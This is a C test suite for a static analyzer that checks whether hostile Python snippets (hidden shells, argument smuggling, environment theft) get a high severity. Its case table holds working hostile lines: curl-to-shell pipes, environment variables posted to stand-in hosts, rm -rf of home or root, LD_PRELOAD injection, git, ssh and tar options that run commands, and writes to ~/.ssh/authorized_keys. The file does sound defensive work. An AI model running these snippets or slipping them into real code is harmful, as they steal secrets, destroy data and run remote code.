/*
 * Python's argument lists (subprocess.run([...]), create_subprocess_exec)
 * are read as the command line they run: an ordinary command is `warn`,
 * and each way of hiding a shell, a download or an unknown program in the
 * list must still reach `high`. Also the other classes issue 16's blind
 * python corpus brought in, by severity (the case files check only that a
 * rule fires).
 */
#include <criterion/criterion.h>
#include <string.h>

#include "common/util.h"
#include "policy/analyze.h"

static struct analyzer *A;

static void setup(void)
{
	err_t err;
	cr_assert_eq(analyzer_new(NULL, &A, &err), 0, "%s", err.msg);
}

static void teardown(void)
{
	analyzer_free(A);
}

TestSuite(check_python_argv, .init = setup, .fini = teardown);

static const struct {
	const char *what, *code;
	bool high;
} cases[] = {
    /* ordinary: a known program, its words visible */
    {"git with a splat of arguments",
     "import subprocess\ndef git(*a):\n    return subprocess.run(['git', *a], check=True)\n",
     false},
    {"the interpreter running a module",
     "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'unittest', '-v'])\n", false},
    {"an unknown interpreter path with -m and an unknown requirements file",
     "import subprocess\npy = find()\nsubprocess.run([py, '-m', 'pip', 'install', '-r', r])\n",
     false},
    {"a loop over constant commands",
     "import subprocess\nSTEPS = [('b', ['make', '-j2']), ('t', ['make', 'check'])]\n"
     "for name, cmd in STEPS:\n    subprocess.run(cmd)\n",
     false},
    {"create_subprocess_exec with constant words",
     "import asyncio\nasync def f(repo):\n"
     "    await asyncio.create_subprocess_exec('git', '-C', repo, 'status')\n",
     false},
    {"pip install of a requirements file",
     "import subprocess\nsubprocess.check_call(['pip', 'install', '-r', 'requirements.txt'])\n",
     false},

    /* hidden shells and downloads */
    {"a program the analysis cannot know", "import subprocess, sys\nsubprocess.run(sys.argv[1:])\n",
     true},
    {"a list changed in place after it was bound",
     "import subprocess\ncmd = ['echo']\ncmd[0] = 'sh'\ncmd.append('-c')\n"
     "cmd.append('id')\nsubprocess.run(cmd)\n",
     true},
    {"a list changed through an alias",
     "import subprocess\ncmd = ['ls']\nc2 = cmd\nc2.insert(0, 'sh')\nsubprocess.run(cmd)\n", true},
    {"a list grown with +=",
     "import subprocess\ncmd = ['ls']\ncmd += ['-c']\nsubprocess.run(cmd)\n", true},
    {"two lists added", "import subprocess\nbase = ['sh']\nsubprocess.run(base + ['-c', 'id'])\n",
     true},
    {"a literal list splatted",
     "import subprocess\nsubprocess.run(['sh', *['-c', 'curl -s http://x/p | sh']])\n", true},
    {"the second of two looped commands",
     "import subprocess\nfor c in (['ls'], ['sh', '-c', 'id']):\n    subprocess.run(c)\n", true},
    {"a loop variable is not its first value",
     "for m in ['json', 'os']:\n    __import__(m).system('id')\n", true},
    {"a shell reading its program from stdin",
     "import subprocess\nsubprocess.Popen(['bash', '-s'], stdin=subprocess.PIPE)\n", true},
    {"a program in /tmp", "import subprocess\nsubprocess.run(['/tmp/.x'])\n", true},
    {"pip install of an address",
     "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', "
     "'git+https://x.example/y.git'])\n",
     true},
    {"python -m timeit with a statement",
     "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'timeit', sys.argv[1]])\n",
     true},
    {"rm -rf / as a list", "import subprocess\nsubprocess.run(['rm', '-rf', '/'])\n", true},
    {"a wrapper before a shell",
     "import subprocess\nsubprocess.run(['env', 'bash', '-c', 'rm -rf ~'])\n", true},
    {"python -c with code that runs a shell",
     "import subprocess\nsubprocess.run(['python3', '-c', 'import os; os.system(\"id\")'])\n",
     true},

    {"python -c with harmless code",
     "import subprocess\nsubprocess.run(['python3', '-c', 'print(1)'])\n", false},
    {"a shell script downloaded, then run by bash",
     "import subprocess, urllib.request\nurllib.request.urlretrieve('http://x/p.sh', 'p.sh')\n"
     "subprocess.run(['bash', 'p.sh'])\n",
     true},
    {"a python script the analysis never read",
     "import subprocess, sys\nsubprocess.run([sys.executable, 'stage2.py'])\n", true},
    {"a program in the working directory",
     "import subprocess\nsubprocess.run(['chmod', '+x', 'x'])\nsubprocess.run(['./x'])\n", true},
    {"git told to run a pager command",
     "import subprocess\nsubprocess.run(['git', '-c', 'core.pager=sh -c id', 'log'])\n", true},
    {"the output of env posted",
     "import subprocess, requests\nout = subprocess.check_output(['env'], text=True)\n"
     "requests.post('http://x/', data=out)\n",
     true},
    {"a system program by its absolute path",
     "import subprocess\nsubprocess.run(['/usr/bin/git', 'status'])\n", false},

    {"executable= in place of the list's program",
     "import subprocess\nsubprocess.run(['ls', '-c', 'id'], executable='/bin/sh')\n", true},
    {"a pager that is a shell command, in the child's environment",
     "import subprocess, os\nsubprocess.run(['git', 'log'], env=dict(os.environ, "
     "GIT_PAGER='sh -c id'))\n",
     true},
    {"LD_PRELOAD set for the programs started",
     "import subprocess, os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\nsubprocess.run(['ls'])\n",
     true},
    {"ssh told to run a proxy command",
     "import subprocess\nsubprocess.run(['ssh', '-o', 'ProxyCommand=sh -c id', 'x'])\n", true},
    {"tar told to run a command at a checkpoint",
     "import subprocess\nsubprocess.run(['tar', 'cf', '/dev/null', '/dev/null', "
     "'--checkpoint=1', '--checkpoint-action=exec=sh -c id'])\n",
     true},
    {"git rebase with GIT_EDITOR=true and PAGER=cat",
     "import subprocess, os\nsubprocess.run(['git', 'rebase', 'HEAD~2'], "
     "env=dict(os.environ, GIT_EDITOR='true', PAGER='cat'))\n",
     false},

    /* the environment: read whole or by a prefix */
    {"environment keys kept by a constant prefix, then the network",
     "import os, urllib.request\ndef cfg(env=None):\n    env = os.environ if env is None else env\n"
     "    return {k: v for k, v in env.items() if k.startswith('APP_')}\n"
     "urllib.request.urlopen('http://127.0.0.1/' + cfg()['host'])\n",
     false},
    {"an empty prefix keeps every variable",
     "import os, urllib.request, json\n"
     "d = {k: v for k, v in os.environ.items() if k.startswith('')}\n"
     "urllib.request.urlopen('http://x/', data=json.dumps(d).encode())\n",
     true},
    {"a filter that is not a prefix",
     "import os, urllib.request, json\n"
     "d = {k: v for k, v in os.environ.items() if v}\n"
     "urllib.request.urlopen('http://x/', data=json.dumps(d).encode())\n",
     true},
    {"the environment bound to a name and posted by keyword",
     "import os, requests\ne = os.environ\nrequests.post('http://x/', json=e)\n", true},

    /* a program named by configuration: the default of os.environ.get */
    {"a linter named by a variable with a default",
     "import os, subprocess\nLINT = os.environ.get('LINT', 'pyflakes')\n"
     "subprocess.run([LINT, 'a.py'])\n",
     false},
    {"os.getenv with a default, in the call",
     "import os, subprocess\nsubprocess.run([os.getenv('MAKE', 'make'), '-j2'])\n", false},
    {"a default that is a shell with -c",
     "import os, subprocess\nsubprocess.run([os.getenv('SH', 'sh'), '-c', 'curl -s x | sh'])\n",
     true},
    {"no default", "import os, subprocess\nsubprocess.run([os.getenv('TOOL'), 'x'])\n", true},
    {"the variable set by the program itself",
     "import os, subprocess\nos.environ['LINT'] = 'bash'\n"
     "subprocess.run([os.environ.get('LINT', 'git'), 'x.sh'])\n",
     true},
    {"the variable set through an alias of os.environ",
     "import os, subprocess\ne = os.environ\ne['T'] = 'bash'\n"
     "subprocess.run([os.environ.get('T', 'git'), 'x.sh'])\n",
     true},
    {"the variable set by update()",
     "import os, subprocess\nos.environ.update(T='bash')\n"
     "subprocess.run([os.environ.get('T', 'git'), 'x.sh'])\n",
     true},
    {"the variable set by setdefault through getattr",
     "import os, subprocess\ngetattr(os.environ, 'setdef' + 'ault')('T', 'bash')\n"
     "subprocess.run([os.environ.get('T', 'git'), 'x.sh'])\n",
     true},
    {"the variable set through environ imported under another name",
     "import subprocess\nfrom os import environ as E, getenv\nE['T'] = 'bash'\n"
     "subprocess.run([getenv('T', 'git'), 'x.sh'])\n",
     true},
    {"the variable set with |=",
     "import os, subprocess\nos.environ |= {'T': 'bash'}\n"
     "subprocess.run([os.getenv('T', 'git'), 'x.sh'])\n",
     true},
    {"the variable set in a loop target",
     "import os, subprocess\nfor os.environ['T'] in ['bash']:\n    pass\n"
     "subprocess.run([os.getenv('T', 'git'), 'x.sh'])\n",
     true},
    {"a default, and other variables only read, and update() of a hash",
     "import os, subprocess, hashlib\nh = hashlib.sha256()\nh.update(b'x')\n"
     "home = os.environ['HOME']\nif os.environ.get('CI'):\n    pass\n"
     "subprocess.run([os.environ.get('MAKE', 'make'), '-C', home])\n",
     false},
    {"a name bound twice",
     "import os, subprocess\nT = os.environ.get('T', 'git')\nT = input()\n"
     "subprocess.run([T, 'x'])\n",
     true},

    /* os.exec*, os.spawn*, os.posix_spawn*: the program and its arguments
     * read as subprocess.run's list */
    {"execvp of git status", "import os\nos.execvp('git', ['git', 'status'])\n", false},
    {"execlp of make", "import os\nos.execlp('make', 'make', '-j2', 'all')\n", false},
    {"execv of a system path with a list bound to a name",
     "import os\nARGS = ['git', 'log', '--oneline']\nos.execv('/usr/bin/git', ARGS)\n", false},
    {"spawnlp waiting for git",
     "import os\nrc = os.spawnlp(os.P_WAIT, 'git', 'git', 'fetch', '--all')\n", false},
    {"posix_spawnp of git with the environment",
     "import os\npid = os.posix_spawnp('git', ['git', 'gc'], os.environ)\n"
     "os.waitpid(pid, 0)\n",
     false},
    {"execvpe of git with a child environment",
     "import os\nenv = dict(os.environ, GIT_TERMINAL_PROMPT='0')\n"
     "os.execvpe('git', ['git', 'pull'], env)\n",
     false},
    {"execvp of sh -c", "import os\nos.execvp('sh', ['sh', '-c', 'curl -s http://x/p | sh'])\n",
     true},
    {"execv of /bin/sh with an argv[0] that lies",
     "import os\nos.execv('/bin/sh', ['ls', '-c', 'id'])\n", true},
    {"execl of bash with -c", "import os\nos.execl('/bin/bash', 'bash', '-c', 'rm -rf ~')\n", true},
    {"execvp of a program read at run time",
     "import os, sys\nos.execvp(sys.argv[1], sys.argv[1:])\n", true},
    {"spawnv of a downloaded file", "import os\nos.spawnv(os.P_WAIT, '/tmp/.x', ['x'])\n", true},
    {"execle of a shell reading its input, the env last",
     "import os\nos.execle('/bin/sh', 'sh', {})\n", true},
    {"posix_spawn of rm -rf /", "import os\nos.posix_spawn('/bin/rm', ['rm', '-rf', '/'], {})\n",
     true},
    {"execv of the interpreter with a script",
     "import os, sys\nos.execv(sys.executable, [sys.executable, 'stage2.py'])\n", true},
    {"execvp of env printing the environment, then posted",
     "import os, requests\nrequests.post('http://x/', data='1')\nos.execvp('env', ['env'])\n",
     true},

    /* a command line kept on an object: folds when nothing can change it */
    {"a method's self.argv",
     "import subprocess\nclass J:\n    def __init__(self):\n        self.argv = ['git', 'status']\n"
     "    def go(self):\n        subprocess.run(self.argv)\n",
     false},
    {"a class attribute plus words, logged with join",
     "import subprocess, logging\nlog = logging.getLogger('x')\nclass R:\n"
     "    GIT = ['git', '-C', '.']\n    def go(self):\n"
     "        log.info('run %s', ' '.join(self.GIT))\n"
     "        return subprocess.run(self.GIT + ['status'], check=True)\n",
     false},
    {"an instance's attribute read through another name",
     "import subprocess\nclass Job:\n    def __init__(self):\n        self.argv = ['git', "
     "'status']\n"
     "job = Job()\nsubprocess.run(job.argv)\n",
     false},
    {"an attribute changed by index",
     "import subprocess\nclass J:\n    def __init__(self):\n        self.argv = ['ls']\n"
     "    def go(self):\n        self.argv[0] = 'sh'\n        subprocess.run(self.argv)\n",
     true},
    {"an attribute set again on the instance",
     "import subprocess\nclass J:\n    def __init__(self):\n        self.argv = ['ls']\n"
     "j = J()\nj.argv = ['sh', '-c', 'id']\nsubprocess.run(j.argv)\n",
     true},
    {"an attribute given to the program's function that changes it",
     "import subprocess\ndef evil(l):\n    l[0] = 'sh'\nclass J:\n    def __init__(self):\n"
     "        self.argv = ['ls', '-c', 'id']\n    def go(self):\n        evil(self.argv)\n"
     "        subprocess.run(self.argv)\n",
     true},
    {"an attribute set by setattr",
     "import subprocess\nclass J:\n    argv = ['ls']\nj = J()\n"
     "setattr(j, 'argv', ['sh', '-c', 'id'])\nsubprocess.run(j.argv)\n",
     true},
    {"an attribute aliased and appended to",
     "import subprocess\nclass J:\n    def __init__(self):\n        self.argv = ['sh']\n"
     "        a = self.argv\n        a.append('-c')\n        a.append('id')\n"
     "    def go(self):\n        subprocess.run(self.argv)\n",
     true},
    {"a class attribute a subclass overrides",
     "import subprocess\nclass A:\n    CMD = ['ls']\n    def go(self):\n"
     "        subprocess.run(self.CMD)\nclass B(A):\n    CMD = ['sh', '-c', 'id']\nB().go()\n",
     true},
    {"exec of an attribute set again on the instance",
     "class A:\n    def __init__(self):\n        self.code = 'print(1)'\n    def run(self):\n"
     "        exec(self.code)\na = A()\na.code = input()\na.run()\n",
     true},

    /* a list changed through a function's parameter */
    {"a list given to the program's function that changes it",
     "import subprocess\ndef widen(l):\n    l[0] = 'sh'\n    l.append('-c')\n    l.append('id')\n"
     "cmd = ['ls']\nwiden(cmd)\nsubprocess.run(cmd)\n",
     true},
    {"a list given by keyword, changed two calls down",
     "import subprocess\ndef inner(x):\n    x.insert(0, 'sh')\ndef outer(argv=None):\n"
     "    inner(argv)\ncmd = ['-c', 'id']\nouter(argv=cmd)\nsubprocess.run(cmd)\n",
     true},
    {"a list given to a function that only reads it",
     "import subprocess\ndef show(l):\n    print(' '.join(l))\ncmd = ['git', 'status']\n"
     "show(cmd)\nsubprocess.run(cmd)\n",
     false},

    /* the classes of the fourth blind round */
    {"a subclass of bdb.Bdb running a downloaded string",
     "import bdb, urllib.request\nclass Q(bdb.Bdb):\n    pass\n"
     "Q().run(urllib.request.urlopen('http://x/').read().decode())\n",
     true},
    {"timeit of the program's own function",
     "import timeit\ndef work():\n    return sum(range(100))\n"
     "print(timeit.timeit(work, number=10))\n",
     false},
    {"timeit of a name read at run time",
     "import timeit, sys\nstmt = sys.stdin.read()\ntimeit.timeit(stmt, number=1)\n", true},
    {"the environment as a class attribute read through self, then sent",
     "import os, socket\nclass S:\n    data = os.environb\n    def dump(self):\n"
     "        return repr(self.data.items()).encode()\n"
     "socket.create_connection(('x', 1)).sendall(S().dump())\n",
     true},
    {"os handed to a format-field lookup",
     "import os, string\nf, _ = string.Formatter().get_field('0.system', (os,), {})\nf('id')\n",
     true},
    {"os as a keyword argument", "import os\ndef run(mod):\n    mod.system('id')\nrun(mod=os)\n",
     true},
    {"subprocess in a dict", "import subprocess\nTOOLS = {'p': subprocess}\n", true},
    {"os printed, tested, and patched in a test",
     "import os, types\nfrom unittest import mock\nprint(os, isinstance(os, types.ModuleType))\n"
     "with mock.patch.object(os, 'getcwd', return_value='/x'):\n    pass\n",
     false},
    {"math handed on", "import math\nfuncs = [math]\nprint(getattr(funcs[0], 'sqrt')(4))\n", false},
    {"a module found among gc's objects",
     "import gc\nm = [o for o in gc.get_objects() if getattr(o, '__name__', '') == 'posix'][0]\n"
     "m.system('id')\n",
     true},
    {"os imported as a parameter's default and returned",
     "def pick(mod=__import__('o' + 's')):\n    return mod\npick().system('id')\n", true},
    {"the environment as a parameter's default, posted",
     "from os import environ as E\nimport urllib.request, json\ndef f(e=E):\n"
     "    urllib.request.urlopen('http://x/', data=json.dumps(dict(e)).encode())\nf()\n",
     true},
    {"the environment kept on an instance, read through another name",
     "import os, socket\nclass Box:\n    def __init__(self):\n        self.payload = os.environ\n"
     "box = Box()\ns = socket.create_connection(('x', 1))\nfor k in box.payload:\n"
     "    s.sendall((k + box.payload[k]).encode())\n",
     true},
    {"the event loop's subprocess_shell",
     "import asyncio\nasync def f(loop, P):\n    await loop.subprocess_shell(P, 'id')\n", true},

    /* values through string operations, constant tables, other doors */
    {"a program found with shutil.which",
     "import shutil, subprocess\nmake = shutil.which('make')\n"
     "subprocess.run([make, '-n', target])\n",
     false},
    {"a command from a constant table of ordinary commands",
     "import subprocess, sys\nCMDS = {'st': ['git', 'status'], 't': ['pytest', '-q']}\n"
     "subprocess.run(CMDS[sys.argv[1]], check=True)\n",
     false},
    {"a module from an allow-list table",
     "import importlib\nOK = {'mean': 'statistics', 'prod': 'math'}\n"
     "def f(s):\n    m = OK.get(s)\n    return getattr(importlib.import_module(m), s)\n",
     false},
    {"shlex.split of a constant command line",
     "import shlex, subprocess\nsubprocess.run(shlex.split('docker run --rm -v $PWD:/w img "
     "make'))\n",
     false},
    {"shlex.split of a line that hides a shell",
     "import shlex, subprocess\nsubprocess.run(shlex.split('sh -c \"curl -s http://x/a | sh\"'))\n",
     true},
    {"shlex.split of a line read at run time",
     "import shlex, subprocess, sys\nsubprocess.run(shlex.split(sys.argv[1]))\n", true},
    {"printf-style formatting of an ordinary command",
     "import os\nos.system('%s %s' % ('git', 'status'))\n", false},
    {"a constant table with a shell in it",
     "import subprocess, sys\nCMDS = {'st': ['git', 'status'], 'x': ['sh', '-c', 'id']}\n"
     "subprocess.run(CMDS[sys.argv[1]])\n",
     true},
    {"a constant table changed in place",
     "import subprocess, sys\nCMDS = {'st': ['git', 'status']}\nCMDS['x'] = sys.argv[2:]\n"
     "subprocess.run(CMDS[sys.argv[1]])\n",
     true},
    {"a table command with a git -c option",
     "import subprocess, sys\nCMDS = {'l': ['git', '-c', 'core.pager=sh -c id', 'log']}\n"
     "subprocess.run(CMDS[sys.argv[1]])\n",
     true},
    {"a module table changed through globals()",
     "import importlib, sys\nT = {'m': 'math'}\nglobals()['T']['m'] = sys.argv[1]\n"
     "importlib.import_module(T['m'])\n",
     true},
    {"a module table with os in it",
     "import importlib, sys\nT = {'m': 'math', 'o': 'os'}\n"
     "importlib.import_module(T.get(sys.argv[1]))\n",
     true},
    {"a shell and -c handed to uuid's helper",
     "import uuid\nuuid._get_command_stdout('/bin/' + 'sh', '-c', 'id')\n", true},
    {"a shell and -c in a list handed to spawnv_passfds",
     "import multiprocessing.util as u\nu.spawnv_passfds('/bin/sh', ['sh', '-c', 'id'], ())\n",
     true},
    {"a shell and -c in a list bound to a name, handed to spawnv_passfds",
     "import multiprocessing.util as u\na = ['/bin/sh', '-c', 'id']\n"
     "u.spawnv_passfds(a[0], a, ())\n",
     true},
    {"a shell and -c in a tuple a function returns, spread into uuid's helper",
     "import uuid\ndef argv(s):\n    return ('sh', '-c', s)\n"
     "uuid._get_command_stdout(*argv('id'))\n",
     true},
    {"a shell and -c in a table, handed to pexpect.spawn",
     "import pexpect\nP = {'x': ['bash', '-c', 'id']}\na = P['x']\npexpect.spawn(a[0], a[1:])\n",
     true},
    {"LD_PRELOAD set on a copy of the environment",
     "import os, subprocess\nenv = dict(os.environ)\nenv['LD_' + 'PRELOAD'] = '/tmp/x.so'\n"
     "subprocess.run(['true'], env=env)\n",
     true},
    {"a key directory as a stride slice",
     "import os\nd = os.path.expanduser('~/' + '._s_s_h'[::2])\nprint(os.listdir(d))\n", true},
    {"a key directory by str.format",
     "import os\nd = os.path.join('~', '{}{}'.format('.', 'ssh'))\nprint(os.listdir(d))\n", true},
    {"a key directory by % formatting and repetition",
     "import os\nd = '~/%sh' % ('.' + 's' * 2)\nprint(os.listdir(d))\n", true},
    {"pickle's pure-Python loads", "import pickle, sys\npickle._loads(sys.stdin.buffer.read())\n",
     true},
    {"ForkingPickler.loads",
     "from multiprocessing.reduction import ForkingPickler\nForkingPickler.loads(b'x')\n", true},
    /* path parts spread into os.path.join(*p), joinpath(*p), Path(*p) */
    {"an rc file's parts spread into os.path.join",
     "import os\nP = ('~', '.bashrc')\nopen(os.path.expanduser(os.path.join(*P)), 'a').write('x')\n",
     true},
    {"a settings list spread into os.path.join, then removed",
     "import os, shutil\nS = {'w': [os.path.expanduser('~'), '']}\n"
     "def go():\n    parts = S['w']\n    shutil.rmtree(os.path.join(*parts))\ngo()\n",
     true},
    {"a tuple spread into Path(), appended to",
     "from pathlib import Path\nA = ('~', '.ssh', 'authorized_' + 'keys')\n"
     "print('k', file=Path(*A).expanduser().open('a'))\n",
     true},
    {"Path() of the home and a cache directory, removed",
     "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path(Path.home(), '.cache', 'tool'))\n",
     false},
    /* a dictionary written to a file and read back: its literal's key */
    {"a cache root read back from the settings file written",
     "import json, os, shutil\nopen('s.json', 'w').write(json.dumps({'cache': '~'}))\n"
     "cfg = json.load(open('s.json'))\nshutil.rmtree(os.path.expanduser(cfg['cache']))\n",
     true},
    {"a root stored with setdefault, read back with get",
     "import json, os, shutil\ns = {}\ns.setdefault('root', os.path.expanduser('~'))\n"
     "json.dump(s, open('s.json', 'w'))\ncfg = json.load(open('s.json'))\n"
     "shutil.rmtree(cfg.get('root'))\n",
     true},
    {"a root stored by subscript from the environment's default, read back",
     "import json, os, shutil\ndef d():\n    return os.path.expanduser(os.environ.get('W', '~'))\n"
     "s = {}\ns['root'] = d()\njson.dump(s, open('s.json', 'w'))\n"
     "root = json.load(open('s.json'))['root']\nshutil.rmtree(root)\n",
     true},
    {"a build directory stored by subscript, read back with get",
     "import json, shutil\ns = {}\ns['out'] = 'build'\njson.dump(s, open('s.json', 'w'))\n"
     "shutil.rmtree(json.load(open('s.json')).get('out'))\n",
     false},
    {"the parent of the user base (~/.local) removed",
     "import shutil, site\nfrom pathlib import Path\nshutil.rmtree(Path(site.getuserbase()).parent)\n",
     true},
    {"a known program's list joined with unknown arguments",
     "import subprocess\nDC = ['docker', 'compose', '-f', 'dev.yml']\n"
     "def dc(*args):\n    return subprocess.run(DC + list(args), check=True)\n",
     false},
    {"a shell's list joined with unknown arguments",
     "import subprocess\ndef sh(*args):\n    return subprocess.run(['sh', '-c'] + list(args))\n",
     true},
    {"unknown arguments before a known list",
     "import subprocess\ndef run(*args):\n    return subprocess.run(list(args) + ['--x'])\n", true},
    {"a loop's values: a pager with cat first is still a shell",
     "import os, subprocess\nfor p in ['cat', 'sh -c \\'curl -s http://x | sh\\'']:\n"
     "    os.environ['GIT_PAGER'] = p\n"
     "    subprocess.run(['git', 'log'], env=env)\n",
     true},
    {"a loop over build directories removed",
     "import shutil\nfor d in ['build', 'dist']:\n    shutil.rmtree(d)\n", false},
    {"git's core.fsmonitor set to a download run by a shell, from a table",
     "import subprocess\nS = [('core.fsmonitor', \"sh -c 'curl -s http://x/f | sh' #\")]\n"
     "for k, v in S:\n    subprocess.run(['git', 'config', '--global', k, v])\n",
     true},
    {"git's core.editor set to vim, from a table",
     "import subprocess\nS = {'core.editor': 'vim', 'pull.rebase': 'true'}\n"
     "for k, v in S.items():\n    subprocess.run(['git', 'config', k, v])\n",
     false},
    {"two dictionaries share a key, one with the home, a loop removes it",
     "import os, shutil\nA = {'dir': 'build'}\nB = {'dir': os.path.expanduser('~')}\n"
     "for cfg in (A, B):\n    shutil.rmtree(cfg['dir'])\n",
     true},
    {"two dictionaries share a key, a helper removes its get()",
     "import shutil\nfrom pathlib import Path\nA = {'w': '/tmp/s'}\nB = {'w': str(Path.home())}\n"
     "def wipe(t):\n    d = t.get('w')\n    shutil.rmtree(d)\nwipe(A)\nwipe(B)\n",
     true},
    {"two dictionaries share a key, both build directories",
     "import shutil\nA = {'dir': 'build'}\nB = {'dir': 'dist'}\n"
     "for cfg in (A, B):\n    shutil.rmtree(cfg['dir'])\n",
     false},
    {"the home appended to a list a function returns, removed in a loop",
     "import os, shutil\ndef roots():\n    r = []\n    r.append('build')\n"
     "    r.append(os.path.expanduser('~'))\n    return [x for x in r if os.path.isdir(x)]\n"
     "for p in roots():\n    shutil.rmtree(p)\n",
     true},
    {"the home extended into a list handed to a helper that removes each",
     "import shutil\nfrom pathlib import Path\ndef clean(paths):\n    for p in paths:\n"
     "        shutil.rmtree(p)\nt = ['dist']\nt.extend([Path.home()])\nclean(sorted(t))\n",
     true},
    {"build directories appended to a list, removed in a loop",
     "import shutil\nr = []\nr.append('build')\nr.append('dist')\n"
     "for p in r:\n    shutil.rmtree(p)\n",
     false},
    {"code read back under a key a literal also has stays unknown",
     "import json\nD = {'code': 'print(1)'}\ncfg = json.load(open('c.json'))\nexec(cfg['code'])\n",
     true},
    {"compile() as a statement only checks the syntax",
     "import sys\nsrc = open(sys.argv[1]).read()\ncompile(src, sys.argv[1], 'exec')\n", false},
    {"compile() whose code object is run",
     "import sys\nsrc = open(sys.argv[1]).read()\nexec(compile(src, sys.argv[1], 'exec'))\n", true},    /* a method by its bare name or fetched with getattr: #method? */
    {"unpack_archive by its bare name into the home",
     "import os\nfrom shutil import unpack_archive\nunpack_archive(input(), os.path.expanduser('~'))\n",
     true},
    {"unpack_archive under another name, extract_dir= the home",
     "from pathlib import Path\nfrom shutil import unpack_archive as u\n"
     "u('x.zip', extract_dir=Path.home())\n",
     true},
    {"unpack_archive by its bare name into a build directory",
     "from shutil import unpack_archive\nunpack_archive('dist/x.tar.gz', 'build/x')\n", false},
    {"extractall fetched with getattr, into the home",
     "import tarfile\nfrom pathlib import Path\nt = tarfile.open('x.tgz')\n"
     "getattr(t, 'extract' + 'all')(Path.home())\n",
     true},
    {"write_text fetched with getattr onto ~/.bashrc",
     "from pathlib import Path\ngetattr(Path.home() / '.bashrc', 'write_' + 'text')('x')\n", true},
    {"subprocess_shell fetched with getattr through a table",
     "import asyncio\nK = {'p': 'subprocess_shell'}\nasync def m(k='p'):\n"
     "    l = asyncio.get_running_loop()\n    f = getattr(l, K[k])\n"
     "    await f(asyncio.SubprocessProtocol, input())\nasyncio.run(m())\n",
     true},
    {"load_extension fetched with getattr",
     "import sqlite3\nc = sqlite3.connect(':memory:')\ngetattr(c, 'load_extension')('/tmp/x.so')\n",
     true},
    {"read_text fetched with getattr on a project file",
     "from pathlib import Path\nprint(getattr(Path('README.md'), 'read_text')())\n", false},
    /* a value kept on an object of the program's own class */
    {"an object's method returns the argument list it was given",
     "import subprocess\nclass Step:\n    def __init__(self, words):\n        self.words = words\n"
     "    def argv(self):\n        return ['python3', '-m'] + self.words\n"
     "subprocess.run(Step(['pytest', '-q']).argv())\n",
     false},
    {"an object's method returns a shell line it was given",
     "import subprocess\nclass Step:\n    def __init__(self, line):\n        self.line = line\n"
     "    def argv(self):\n        return ['sh', '-c', self.line]\n"
     "subprocess.run(Step('curl -s https://x.example/i | sh').argv())\n",
     true},
    {"a key's value copied from the same key of a dictionary read back",
     "import json\nreport = json.load(open('r.json'))\n"
     "body = {'passed': report.get('passed', 0)}\nprint(body)\n",
     false},
    {"a class without __init__ whose attribute setattr changes",
     "import subprocess\nclass J:\n    pass\nj = J()\nsetattr(j, 'argv', ['sh', '-c', 'id'])\n"
     "subprocess.run(j.argv)\n",
     true},

    /* make reading its makefile from its input: the recipes are analysed */
    {"make -f - fed a makefile whose recipe pipes a download into a shell",
     "import subprocess\nsubprocess.run(['make', '-f', '-'], input='all:\\n\\tcurl -s "
     "https://x.example/i | sh\\n', text=True)\n",
     true},
    {"make -f /dev/stdin fed a recipe deleting $$HOME",
     "import subprocess\nM = 'clean:\\n\\t@rm -rf $$HOME\\n'\n"
     "subprocess.run(['make', '-f', '/dev/stdin', 'clean'], input=M)\n",
     true},
    {"make --makefile=- fed a recipe made by an f-string",
     "import subprocess\ndef mk(u):\n    return f'all:\\n\\twget -qO- {u} | python3 -\\n'\n"
     "subprocess.check_output(['gmake', '--makefile=-'], input=mk('http://x.example/b.py'))\n",
     true},
    {"make -f - fed compiler lines and make's variables",
     "import subprocess\nM = ('CFLAGS ?= -O2\\n%.o: %.c\\n\\t$(CC) $(CFLAGS) -c -o $@ $<\\n'\n"
     "     'clean:\\n\\t-$(RM) -r build $(@D)\\n')\n"
     "subprocess.run(['make', '-f', '-', 'clean'], input=M, text=True)\n",
     false},
};

static enum severity worst(const char *code, struct findings *f)
{
	err_t err;
	enum severity w = SEV_INFO;
	cr_assert_eq(analyze(A, "python", code, strlen(code), f, &err), 0, "%s", err.msg);
	for (size_t i = 0; i < f->n; i++)
		if (f->v[i].severity > w)
			w = f->v[i].severity;
	return w;
}

Test(check_python_argv, each_case_reaches_high_or_not)
{
	int failures = 0;
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct findings f;
		bool high = worst(cases[i].code, &f) == SEV_HIGH;
		if (high != cases[i].high) {
			cr_log_error("[%s] %s high", cases[i].what,
				     high ? "reaches" : "does not reach");
			for (size_t k = 0; k < f.n; k++)
				cr_log_info("  %u:%u %s %s", f.v[k].line, f.v[k].column,
					    f.v[k].rule, severity_name(f.v[k].severity));
			failures++;
		}
		findings_free(&f);
	}
	cr_expect_eq(failures, 0, "%d of %zu cases (above)", failures, ARRAY_SIZE(cases));
}
